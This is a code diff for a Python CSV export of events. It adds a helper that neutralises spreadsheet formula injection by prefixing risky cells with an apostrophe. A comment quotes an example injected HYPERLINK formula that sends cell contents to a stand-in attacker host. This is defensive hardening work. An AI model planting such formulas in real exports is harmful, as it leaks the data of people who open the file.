@@ -127,7 +127,7 @@ def events_csv(events: Iterable[dict[str, Any]]) -> str:
     writer = csv.DictWriter(buffer, fieldnames=EVENT_CSV_COLUMNS, lineterminator="\n")
     writer.writeheader()
     for event in events:
-        writer.writerow({
+        writer.writerow({column: _inert(value) for column, value in {
             "id": event["id"], "type": event["type"], "date": event["date"],
             "precision": event["precision"], "status": event["status"], "title": event["title"],
             "companies": ";".join(f"{c['id']}:{c['role']}{_merged(c, ' (', ')')}"
@@ -141,8 +141,19 @@ def events_csv(events: Iterable[dict[str, Any]]) -> str:
             "sources": ";".join(s.get("url") or "" for s in event["sources"]),
             "retracted": str(event["retracted"]).lower(),
             "uncertain": str(event["uncertain"]).lower(),
-        })
+        }.items()})
     return buffer.getvalue()
+
+
+# What a spreadsheet takes for the start of a formula: a title from a feed such as
+# =HYPERLINK("http://evil.example/?"&A1) would run when the export is opened.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _inert(cell: str) -> str:
+    """A CSV cell that a spreadsheet shows as text: one that would start a formula gets
+    a leading apostrophe (OWASP's advice), which spreadsheets do not display."""
+    return "'" + cell if cell.startswith(_FORMULA_START) else cell
 
 
 def _own_fields(event: dict[str, Any]) -> str:
